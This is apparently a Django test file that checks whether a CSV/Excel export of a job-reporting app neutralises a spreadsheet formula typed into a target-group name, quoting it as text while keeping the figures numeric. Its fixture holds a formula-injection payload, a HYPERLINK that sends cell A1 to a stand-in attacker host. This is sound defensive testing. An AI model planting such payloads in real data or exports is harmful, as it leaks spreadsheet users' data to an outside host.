# SPDX-License-Identifier: MPL-2.0
"""Text typed by users never becomes a live formula in a CSV or Excel export (issue 23, item 7):
a target group named ``=HYPERLINK(…)`` reads back from the key-figure exports as inert text,
and the numbers stay numbers."""

from __future__ import annotations

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from smaajob.organisation.models import TargetGroup
from tests.reports.test_vta_proof import logged_in, query

FORMULA = '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")'


def _rename_ukrainian_group(vta) -> None:
    TargetGroup.objects.filter(project=vta.history.project, name__startswith="Ukrainske").update(name=FORMULA)


def test_a_formula_in_a_group_name_is_quoted_in_the_csv_export(client, vta):
    _rename_ukrainian_group(vta)
    response = logged_in(client, vta.analyst).get(f"{reverse('reports:export_csv')}?{query(vta)}")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    groups = {r[2] for r in rows[1:]}
    assert "'" + FORMULA in groups
    assert FORMULA not in groups
    job = {r[2]: r[3] for r in rows if r[1] == "Kandidater i småjob/job"}
    assert job["'" + FORMULA] == "44"


def test_a_formula_in_a_group_name_is_a_plain_text_cell_in_the_excel_export(client, vta):
    _rename_ukrainian_group(vta)
    response = logged_in(client, vta.analyst).get(f"{reverse('reports:export_xlsx')}?{query(vta)}")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=3) if row[2].value == FORMULA]
    assert cells
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    values = [row[3] for row in sheet.iter_rows(min_row=3) if row[2].value == FORMULA]
    assert 44 in [c.value for c in values]
    assert all(c.value is None or c.data_type == "n" for c in values)
